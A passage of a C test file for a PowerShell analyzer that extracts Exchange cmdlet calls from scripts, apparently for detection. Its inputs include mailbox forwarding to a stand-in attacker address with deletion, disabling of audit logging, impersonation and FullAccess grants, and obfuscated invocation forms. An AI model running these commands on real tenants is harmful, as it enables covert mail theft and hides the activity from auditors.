/* What calls a text makes: each row is a text and all the calls that are read from it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "analyze/powershell/powershell.h"
#include "base/buf.h"

static int by_name(const void *a, const void *b) {
    return str_cmp(((const struct param *)a)->name, ((const struct param *)b)->name);
}

/* ` Name=a|b`; += and -= for edits; behind the name ? a hole, * ambiguous, % truncated. */
static void render_params(struct buf *out, struct params *params) {
    if (params->count) qsort(params->list, params->count, sizeof *params->list, by_name);
    for (size_t i = 0; i < params->count; i++) {
        const struct param *p = &params->list[i];
        buf_printf(out, " %.*s%s%s%s%s", STR_ARG(p->name), p->flags & PARAM_HOLE ? "?" : "",
                   p->flags & PARAM_AMBIGUOUS ? "*" : "", p->flags & PARAM_TRUNCATED ? "%" : "",
                   p->edit == EDIT_ADD      ? "+="
                   : p->edit == EDIT_REMOVE ? "-="
                                            : "=");
        for (size_t k = 0; k < p->count; k++)
            buf_printf(out, "%s%.*s", k ? "|" : "", STR_ARG(p->values[k]));
        if (!p->count) buf_add_z(out, "()");
    }
}

/* One call a line: cmdlet, parameters by name, then what is said about the call. */
static void render_calls(struct buf *out, struct call *calls, size_t count) {
    for (size_t i = 0; i < count; i++) {
        struct call *c = &calls[i];
        if (i) buf_add_c(out, '\n');
        buf_add(out, c->cmdlet->name);
        render_params(out, &c->params);
        if (c->certainty != CALL_RESOLVED) buf_printf(out, " ~%s", certainty_name(c->certainty));
        if (c->what_if) buf_add_z(out, " ~whatif");
        if (c->attempt) buf_add_z(out, " ~attempt");
        if (c->obfuscated) buf_add_z(out, " ~obfuscated");
    }
}

enum kind { SCRIPT, LINE, CUT };

/* Synthetic, after the documented syntax of each cmdlet and of about_Parsing, about_Splatting,
 * about_Quoting_Rules. `calls` as render_calls() writes them; empty: the text calls nothing. */
static const struct {
    enum kind kind;
    const char *text, *calls;
} TEXTS[] = {
    /* plain */
    {SCRIPT, "Add-MailboxPermission -Identity MarjoleinB -User P.Okafor -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=MarjoleinB User=P.Okafor"},
    {SCRIPT, "Add-MailboxPermission MarjoleinB -User P.Okafor -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=MarjoleinB User=P.Okafor"},
    {SCRIPT, "add-mailboxpermission -user u -accessrights fullaccess -identity m",
     "Add-MailboxPermission AccessRights=fullaccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission -User:u -Identity:m -AccessRights:FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission -User: u -Identity:\tm -AccessRights: 'FullAccess'",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission -User u m -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "ExchangeOnlineManagement\\Add-MailboxPermission m -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "$null = Add-MailboxPermission m -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "$r = Add-MailboxPermission m -User u -AccessRights FullAccess | Out-Null",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "[void](Add-MailboxPermission m -User u -AccessRights FullAccess)",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Write-Host $(Add-MailboxPermission m -User u -AccessRights FullAccess)",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "\"$(Add-MailboxPermission m -User u -AccessRights FullAccess)\"",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT,
     "Add-MailboxPermission m -User u -AccessRights FullAccess; Add-RecipientPermission m -Trustee "
     "u -AccessRights SendAs -Confirm:$false",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u\nAdd-RecipientPermission "
     "AccessRights=SendAs Confirm=False Identity=m Trustee=u"},
    {SCRIPT,
     "Add-MailboxPermission m -User u -AccessRights FullAccess && Set-Mailbox m -AuditEnabled "
     "$false",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u\nSet-Mailbox "
     "AuditEnabled=False Identity=m"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess 2>&1 | Out-Null",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess > C:\\t\\x.txt",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess 2>$null",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT,
     "Add-MailboxPermission m -User u `\r\n  -AccessRights FullAccess `\r\n  -AutoMapping $false",
     "Add-MailboxPermission AccessRights=FullAccess AutoMapping=False Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess # grants",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m <# who #> -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT,
     "\xef\xbb\xbf"
     "Add-MailboxPermission m -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT,
     "Add-MailboxPermission m -User u -AccessRights FullAccess -InheritanceType All "
     "-AutoMapping:$true",
     "Add-MailboxPermission AccessRights=FullAccess AutoMapping=True Identity=m "
     "InheritanceType=All User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess -Deny",
     "Add-MailboxPermission AccessRights=FullAccess Deny=True Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess -Deny:$false",
     "Add-MailboxPermission AccessRights=FullAccess Deny=False Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess -WhatIf",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u WhatIf=True ~whatif"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess -WhatIf:$false",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u WhatIf=False"},
    {SCRIPT, "Add-MailboxPermission -Identity 'S-1-5-21-1' -Owner \"CONTOSO\\o'brien\"",
     "Add-MailboxPermission Identity=S-1-5-21-1 Owner=CONTOSO\\o'brien"},
    {SCRIPT, "Remove-MailboxPermission m", "Remove-MailboxPermission Identity=m"},
    {SCRIPT, "Remove-MailboxPermission m -ResetDefault",
     "Remove-MailboxPermission Identity=m ResetDefault=True"},
    {SCRIPT, "Add-MailboxFolderPermission -Identity m:\\Inbox -User u -AccessRights Reviewer",
     "Add-MailboxFolderPermission AccessRights=Reviewer Identity=m:\\Inbox User=u"},
    {SCRIPT,
     "Add-MailboxFolderPermission 'm:\\Top of Information Store' -User Default -AccessRights "
     "CreateItems,FolderVisible",
     "Add-MailboxFolderPermission AccessRights=CreateItems|FolderVisible Identity=m:\\Top of "
     "Information Store User=Default"},
    {SCRIPT,
     "Set-MailboxFolderPermission m:\\Calendar -User u -AccessRights Editor "
     "-SharingPermissionFlags Delegate,CanViewPrivateItems",
     "Set-MailboxFolderPermission AccessRights=Editor Identity=m:\\Calendar "
     "SharingPermissionFlags=Delegate|CanViewPrivateItems User=u"},
    {SCRIPT, "Add-ADPermission 'CN=m,OU=x,DC=y' -User CONTOSO\\u -ExtendedRights \"Send As\"",
     "Add-ADPermission ExtendedRights=Send As Identity=CN=m,OU=x,DC=y User=CONTOSO\\u"},
    {SCRIPT, "Add-ADPermission m -User u -ExtendedRights 'Send-As','Receive-As'",
     "Add-ADPermission ExtendedRights=Send-As|Receive-As Identity=m User=u"},
    {SCRIPT, "New-ManagementRoleAssignment -Role ApplicationImpersonation -User u",
     "New-ManagementRoleAssignment Role=ApplicationImpersonation User=u"},
    {SCRIPT, "New-InboxRule . -Mailbox m -ForwardTo x@evil.example -DeleteMessage $true",
     "New-InboxRule DeleteMessage=True ForwardTo=x@evil.example Mailbox=m Name=."},
    {SCRIPT,
     "Set-Mailbox m -ForwardingSmtpAddress smtp:x@evil.example -DeliverToMailboxAndForward $true",
     "Set-Mailbox DeliverToMailboxAndForward=True ForwardingSmtpAddress=smtp:x@evil.example "
     "Identity=m"},
    {SCRIPT, "Set-AdminAuditLogConfig -UnifiedAuditLogIngestionEnabled $false",
     "Set-AdminAuditLogConfig UnifiedAuditLogIngestionEnabled=False"},
    {SCRIPT, "Disable-CmdletExtensionAgent 'Admin Audit Log Agent'",
     "Disable-CmdletExtensionAgent Identity=Admin Audit Log Agent"},
    {SCRIPT, "Add-RoleGroupMember 'Organization Management' -Member u",
     "Add-RoleGroupMember Identity=Organization Management Member=u"},
    /* arrays and tables */
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess,ReadPermission",
     "Add-MailboxPermission AccessRights=FullAccess|ReadPermission Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights FullAccess, ReadPermission",
     "Add-MailboxPermission AccessRights=FullAccess|ReadPermission Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights @('FullAccess','ReadPermission')",
     "Add-MailboxPermission AccessRights=FullAccess|ReadPermission Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights @('FullAccess'\n'ReadPermission')",
     "Add-MailboxPermission AccessRights=FullAccess|ReadPermission Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights ('FullAccess','ReadPermission')",
     "Add-MailboxPermission AccessRights=FullAccess|ReadPermission Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights \"FullAccess, ReadPermission\"",
     "Add-MailboxPermission AccessRights=FullAccess|ReadPermission Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -AccessRights \"FullAccess\",'ReadPermission' -Deny",
     "Add-MailboxPermission AccessRights=FullAccess|ReadPermission Deny=True Identity=m User=u"},
    {SCRIPT, "Set-Mailbox 'Doe, Jane' -GrantSendOnBehalfTo 'Roe, Rick'",
     "Set-Mailbox GrantSendOnBehalfTo=Roe, Rick Identity=Doe, Jane"},
    {SCRIPT, "Set-Mailbox m -GrantSendOnBehalfTo a,b",
     "Set-Mailbox GrantSendOnBehalfTo=a|b Identity=m"},
    {SCRIPT, "Set-Mailbox m -GrantSendOnBehalfTo @{Add='a'}",
     "Set-Mailbox GrantSendOnBehalfTo+=a Identity=m"},
    {SCRIPT, "Set-Mailbox m -GrantSendOnBehalfTo @{add='a','b';REMOVE='c'}",
     "Set-Mailbox GrantSendOnBehalfTo+=a|b GrantSendOnBehalfTo-=c Identity=m"},
    {SCRIPT, "Set-Mailbox m -GrantSendOnBehalfTo @{'Add'=@('a','b')}",
     "Set-Mailbox GrantSendOnBehalfTo+=a|b Identity=m"},
    {SCRIPT, "Set-Mailbox m -GrantSendOnBehalfTo @{\n Add = 'a'\n Remove = \"c\"\n}",
     "Set-Mailbox GrantSendOnBehalfTo+=a GrantSendOnBehalfTo-=c Identity=m"},
    {SCRIPT, "Set-Mailbox m -GrantSendOnBehalfTo $null",
     "Set-Mailbox GrantSendOnBehalfTo=() Identity=m"},
    {SCRIPT, "Set-Mailbox m -GrantSendOnBehalfTo @()",
     "Set-Mailbox GrantSendOnBehalfTo=() Identity=m"},
    {SCRIPT, "Set-Mailbox m -GrantSendOnBehalfTo ''",
     "Set-Mailbox GrantSendOnBehalfTo= Identity=m"},
    {SCRIPT, "Set-Mailbox m -Type @{Add='a'}",
     "Set-Mailbox Identity=m Type?=System.Collections.Hashtable ~dynamic"},
    {SCRIPT, "$p=@{Identity='m';User='u';AccessRights='FullAccess'}; Add-MailboxPermission @p",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "$p=@{User='u'}; $q=@{AccessRights='FullAccess'}; Add-MailboxPermission m @p @q",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT,
     "$p=@{Identity='m';User='u'}; Add-MailboxPermission @p -User x -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=x"},
    {SCRIPT, "$p=@{User='a'}; $q=@{User='b'}; Add-MailboxPermission m @p @q",
     "Add-MailboxPermission Identity=m User=a User=b ~attempt"},
    {SCRIPT, "$p='m'; $a=@('m'); Add-MailboxPermission @a -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission @parameters", "Add-MailboxPermission @?=@parameters ~dynamic"},
    {SCRIPT, "$p=@{Identity='m'}; $p.User='u'; Add-MailboxPermission @p",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "$p=@{Identity='m'}; $p['User']='u'; $p.Add('Deny',$true); Add-MailboxPermission @p",
     "Add-MailboxPermission Deny=True Identity=m User=u"},
    {SCRIPT, "$p=@{Identity='m'}; if ($x) { $p.User='u' }; Add-MailboxPermission @p",
     "Add-MailboxPermission @?=@p ~dynamic"},
    {SCRIPT, "$p=@{Identity='m'}; $p += @{User='u'}; Add-MailboxPermission @p",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "$p=@{Identity='m';Deny=$false;User='u'}; Add-MailboxPermission @p",
     "Add-MailboxPermission Deny=False Identity=m User=u"},
    /* abbreviations */
    {SCRIPT, "Add-MailboxPermission -Id m -U u -Ac FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -A FullAccess",
     "Add-MailboxPermission A*=FullAccess Identity=m User=u ~ambiguous"},
    {SCRIPT, "Add-MailboxPermission m -O o", "Add-MailboxPermission Identity=m Owner=o ~probable"},
    {SCRIPT, "Add-MailboxPermission m -U u -Ac FullAccess -Au $false -Ig -Inh All",
     "Add-MailboxPermission AccessRights=FullAccess AutoMapping=False Identity=m "
     "IgnoreDefaultScope=True InheritanceType=All User=u"},
    {SCRIPT, "Add-MailboxPermission m -U u -Ac FullAccess -In All",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m In*=All User=u ~ambiguous"},
    {SCRIPT, "Add-MailboxPermission m -U u -Ac FullAccess -De",
     "Add-MailboxPermission AccessRights=FullAccess Deny=True Identity=m User=u ~probable"},
    {SCRIPT, "Add-MailboxPermission m -U u -Ac FullAccess -cf:$false -wi",
     "Add-MailboxPermission AccessRights=FullAccess Confirm=False Identity=m User=u WhatIf=True "
     "~whatif"},
    {SCRIPT, "Add-MailboxPermission m -U u -Ac FullAccess -ea SilentlyContinue -vb",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -U u -Ac FullAccess -ErrorAction Stop -Verbose",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Remove-MailboxPermission m -A FullAccess -U u -Co:$false",
     "Remove-MailboxPermission AccessRights=FullAccess Confirm=False Identity=m User=u"},
    {SCRIPT, "Remove-MailboxPermission m -C",
     "Remove-MailboxPermission C*=True Identity=m ~ambiguous"},
    {SCRIPT, "Remove-MailboxPermission m -R",
     "Remove-MailboxPermission Identity=m ResetDefault=True"},
    {SCRIPT, "Add-RecipientPermission -I m -T u -A SendAs",
     "Add-RecipientPermission AccessRights=SendAs Identity=m Trustee=u ~probable"},
    {SCRIPT, "Remove-RecipientPermission m -Tr u -Access SendAs",
     "Remove-RecipientPermission AccessRights=SendAs Identity=m Trustee=u"},
    {SCRIPT, "Set-MailboxFolderPermission m:\\c -U u -A Editor -Sh Delegate",
     "Set-MailboxFolderPermission AccessRights=Editor Identity=m:\\c "
     "SharingPermissionFlags=Delegate User=u"},
    {SCRIPT, "Remove-MailboxFolderPermission m:\\c -R -U u",
     "Remove-MailboxFolderPermission Identity=m:\\c ResetDelegateUserCollection=True User=u"},
    {SCRIPT, "Add-ADPermission m -U u -E 'Send As'",
     "Add-ADPermission ExtendedRights=Send As Identity=m User=u ~probable"},
    {SCRIPT, "Set-MailboxAuditBypassAssociation -I svc -A $true",
     "Set-MailboxAuditBypassAssociation AuditBypassEnabled=True Identity=svc ~probable"},
    {SCRIPT, "New-ManagementRoleAssignment -N x -Ro ApplicationImpersonation -Us u",
     "New-ManagementRoleAssignment Name=x Role=ApplicationImpersonation User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -Nonsense x -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m Nonsense*=x User=u ~ambiguous"},
    /* characters */
    {SCRIPT,
     "Add-MailboxPermission m \xe2\x80\x93User u \xe2\x80\x94"
     "AccessRights \xe2\x80\x95x",
     "Add-MailboxPermission Identity=m User=u x*=True ~ambiguous ~attempt"},
    {SCRIPT,
     "Add-MailboxPermission \xe2\x80\x93Identity \xe2\x80\x98m\xe2\x80\x99 \xe2\x80\x93User "
     "\xe2\x80\x9cu\xe2\x80\x9d \xe2\x80\x93"
     "AccessRights \xe2\x80\x9a"
     "FullAccess\xe2\x80\x99",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT,
     "Add-MailboxPermission 'it''s' -User 'O\xe2\x80\x99\xe2\x80\x99"
     "Brien' -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=it's User=O\xe2\x80\x99"
     "Brien"},
    {SCRIPT, "Add-MailboxPermission \"a`\"b\" -User \"c\"\"d\" -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=a\"b User=c\"d"},
    {SCRIPT, "Add\xe2\x80\x93MailboxPermission m -User u",
     "Add-MailboxPermission Identity=m User=u ~attempt"},
    {SCRIPT, "Add\xe2\x80\x90MailboxPermission m -User u",
     "Add-MailboxPermission Identity=m User=u ~attempt"},
    {SCRIPT, "aDd-MailBoxPerm`ission m -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u ~obfuscated"},
    {SCRIPT, "Add-Mail\"box\"Per'mission' m -User u -AccessRights Full'Access'",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u ~obfuscated"},
    {SCRIPT, "& 'Add-MailboxPermission' m -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "& \"Add-MailboxPermission\" m -User u", "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, ". Add-MailboxPermission m -User u", "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "&Add-MailboxPermission m -User u", "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission\xc2\xa0m\xe2\x80\x83-User\xe3\x80\x80u",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission -- m -User",
     "Add-MailboxPermission *=-User Identity=m ~attempt"},
    {SCRIPT, "Add-MailboxPermission m '-User' u",
     "Add-MailboxPermission *=-User *=u Identity=m ~attempt"},
    {SCRIPT, "Add-MailboxPermission m -`User u",
     "Add-MailboxPermission *=-User *=u Identity=m ~attempt"},
    {SCRIPT, "Add-MailboxPermission m -User @'\nu\n'@ -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -User @\"\nu\n\"@ -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=u"},
    {SCRIPT, "Add-MailboxPermission m -Deny $false -User u",
     "Add-MailboxPermission *=False Deny=True Identity=m User=u ~attempt"},
    {SCRIPT, "Add-MailboxPermission 0123 -User u", "Add-MailboxPermission Identity=0123 User=u"},
    {SCRIPT, "Add-MailboxPermission m -User u -User v",
     "Add-MailboxPermission Identity=m User=u User=v ~attempt"},
    {SCRIPT, "Add-MailboxPermission m n -User u",
     "Add-MailboxPermission *=n Identity=m User=u ~attempt"},
    {SCRIPT, "Add-MailboxPermission m -AccessRights FullAccess -User",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m ~attempt"},
    /* values */
    {SCRIPT, "$u='P.Okafor'; Add-MailboxPermission m -User $u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=P.Okafor"},
    {SCRIPT, "$u='P'; $u=\"$u.Okafor\"; Add-MailboxPermission m -User $u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=P.Okafor"},
    {SCRIPT, "Add-MailboxPermission m -User $u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User?=$u ~dynamic"},
    {SCRIPT, "Add-MailboxPermission m -User \"$u@contoso.com\" -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User?=\"$u@contoso.com\" ~dynamic"},
    {SCRIPT, "Add-MailboxPermission $env:USERNAME -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity?=$env:USERNAME User=u ~dynamic"},
    {SCRIPT, "Add-MailboxPermission $m.Alias -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity?=$m.Alias User=u ~dynamic"},
    {SCRIPT, "Add-MailboxPermission (Get-Mailbox x).Alias -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity?=(Get-Mailbox x).Alias User=u "
     "~dynamic"},
    {SCRIPT, "Add-MailboxPermission ('m'+'n') -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=mn User=u ~obfuscated"},
    {SCRIPT,
     "if ($x) { $u='a' } else { $u='b' }; Add-MailboxPermission m -User $u -AccessRights "
     "FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User?=$u ~dynamic"},
    {SCRIPT, "$u='a'; if ($x) { $u='b' }; Add-MailboxPermission m -User $u",
     "Add-MailboxPermission Identity=m User?=$u ~dynamic"},
    {SCRIPT, "$u='a'; if ($x) { Add-MailboxPermission m -User $u }",
     "Add-MailboxPermission Identity=m User=a"},
    {SCRIPT, "$u='a'; while ($x) { Add-MailboxPermission m -User $u; $u='b' }",
     "Add-MailboxPermission Identity=m User?=$u ~dynamic"},
    {SCRIPT,
     "$t='u@x.example','v@x.example'; Add-MailboxPermission m -User $t[1] -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=m User=v@x.example"},
    {SCRIPT, "$script:u='a'; Add-MailboxPermission m -User $u",
     "Add-MailboxPermission Identity=m User=a"},
    {SCRIPT,
     "$h=@{u='a'}; Add-MailboxPermission m -User $h.u; Add-MailboxPermission m -User $h['u']",
     "Add-MailboxPermission Identity=m User=a\nAdd-MailboxPermission Identity=m User=a"},
    {SCRIPT, "Set-Mailbox m -DeliverToMailboxAndForward $True -ForwardingAddress $null",
     "Set-Mailbox DeliverToMailboxAndForward=True ForwardingAddress=() Identity=m"},
    /* pipelines and loops */
    {SCRIPT, "Get-Mailbox x | Add-MailboxPermission -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity?=<from Get-Mailbox x> User=u "
     "~dynamic"},
    {SCRIPT,
     "Get-Mailbox -ResultSize Unlimited | Add-MailboxPermission -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity?=<from Get-Mailbox -ResultSize "
     "Unlimited> User=u ~dynamic"},
    {SCRIPT,
     "Get-Mailbox |\n Where-Object { $_.Alias -like 'a*' } |\n Add-MailboxPermission -User u "
     "-AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity?=<from Get-Mailbox |\n Where-Object { "
     "$_.Alias -like 'a*' }> User=u ~dynamic"},
    {SCRIPT, "Get-Mailbox\n| Add-MailboxPermission -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity?=<from Get-Mailbox> User=u ~dynamic"},
    {SCRIPT, "'a','b' | Add-MailboxPermission -User u -AccessRights FullAccess",
     "Add-MailboxPermission AccessRights=FullAccess Identity=a User=u\nAdd-MailboxPermission "
     "AccessRights=FullAccess Identity=b User=u"},
    {SCRIPT,
     "'a','b' | ForEach-Object { Add-MailboxPermission $_ -User u -AccessRights FullAccess }",
     "Add-MailboxPermission AccessRights=FullAccess Identity=a User=u\nAdd-MailboxPermission "
     "AccessRights=FullAccess Identity=b User=u"},
    {SCRIPT,
     "Import-Csv c.csv | % { Add-MailboxPermission $_.Mailbox -User u -AccessRights FullAccess }",
     "Add-MailboxPermission AccessRights=FullAccess Identity?=$_.Mailbox User=u ~dynamic"},
    {SCRIPT,
     "foreach ($m in 'a','b') { Add-MailboxPermission $m -User u -AccessRights FullAccess }",
     "Add-MailboxPermission AccessRights=FullAccess Identity=a User=u\nAdd-MailboxPermission "
     "AccessRights=FullAccess Identity=b User=u"},
    {SCRIPT,
     "foreach ($m in Get-Mailbox) { Add-MailboxPermission $m.Alias -User u -AccessRights "
     "FullAccess }",
     "Add-MailboxPermission AccessRights=FullAccess Identity?=$m.Alias User=u ~dynamic"},
    {SCRIPT, "$all=@('a'); foreach($m in $all){Add-MailboxPermission $m -User u}",
     "Add-MailboxPermission Identity=a User=u"},
    {SCRIPT, "for ($i=0; $i -lt 3; $i++) { Add-MailboxPermission $m[$i] -User u }",
     "Add-MailboxPermission Identity?=$m[$i] User=u ~dynamic"},
    {SCRIPT, "do { Add-MailboxPermission m -User u } while ($false)",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT,
     "switch ($x) { 'a' { Add-MailboxPermission m -User u } default { Remove-MailboxPermission m } "
     "}",
     "Add-MailboxPermission Identity=m User=u\nRemove-MailboxPermission Identity=m"},
    {SCRIPT,
     "try { Add-MailboxPermission m -User u -ErrorAction Stop } catch [Exception] { Write-Host $_ "
     "} finally { }",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT,
     "if (Test-Path x) { Add-MailboxPermission m -User u } elseif ($y) { Add-MailboxPermission n "
     "-User u } else { Add-MailboxPermission o -User u }",
     "Add-MailboxPermission Identity=m User=u\nAdd-MailboxPermission Identity=n "
     "User=u\nAdd-MailboxPermission Identity=o User=u"},
    {SCRIPT, "1..2 | % { Add-MailboxPermission \"m$_\" -User u }",
     "Add-MailboxPermission Identity=m1 User=u\nAdd-MailboxPermission Identity=m2 User=u"},
    {SCRIPT,
     "Add-MailboxPermission m -User u | Remove-MailboxPermission -User v -AccessRights FullAccess",
     "Add-MailboxPermission Identity=m User=u\nRemove-MailboxPermission AccessRights=FullAccess "
     "Identity?=<from Add-MailboxPermission m -User u> User=v ~dynamic"},
    /* what runs */
    {SCRIPT, "& { Add-MailboxPermission m -User u }", "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, ". { Add-MailboxPermission m -User u }", "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "& { param($a) Add-MailboxPermission $a -User u } m",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "Invoke-Command -ScriptBlock { Add-MailboxPermission m -User u }",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "icm -Session $s { Add-MailboxPermission m -User u }",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "$b = { Add-MailboxPermission m -User u }; & $b",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "{ Add-MailboxPermission m -User u }.Invoke()",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "iex 'Add-MailboxPermission m -User u'",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "Invoke-Expression -Command \"Add-MailboxPermission m -User u\"",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "'Add-MailboxPermission m -User u' | iex",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "iex \"iex 'Add-MailboxPermission m -User u'\"",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "function g($a) { Add-MailboxPermission $a -User u }; g m",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "function g { param($a,$b) Add-MailboxPermission $a -User $b }; g -b u -a m",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "function g { Add-MailboxPermission $args[0] -User $args[1] }; g m u",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "Set-Alias g Add-MailboxPermission; g m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "Add-CloudMailboxPermission m -User u",
     "Add-MailboxPermission Identity=m User=u ~probable"},
    {SCRIPT, "Connect-ExchangeOnline -Prefix Cloud; Add-CloudMailboxPermission m -User u",
     "Connect-ExchangeOnline Prefix=Cloud\nAdd-MailboxPermission Identity=m User=u"},
    {SCRIPT, "Import-PSSession $s -Prefix On; Add-OnMailboxPermission m -User u",
     "Add-MailboxPermission Identity=m User=u"},
    {SCRIPT, "Some-Command { Add-MailboxPermission m -User u }",
     "Add-MailboxPermission Identity=m User=u ~ambiguous"},
    {SCRIPT, "if ($true) { Add-MailboxPermission m -User u } else { Remove-MailboxPermission m }",
     "Add-MailboxPermission Identity=m User=u"},
    /* obfuscation */
    {SCRIPT, "&('Add-Mail'+'boxPermission') m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
    {SCRIPT, "&(\"{1}{0}\"-f'Permission','Add-Mailbox') m -User u",
     "Add-MailboxPermission Identity=m User=u ~obfuscated"},
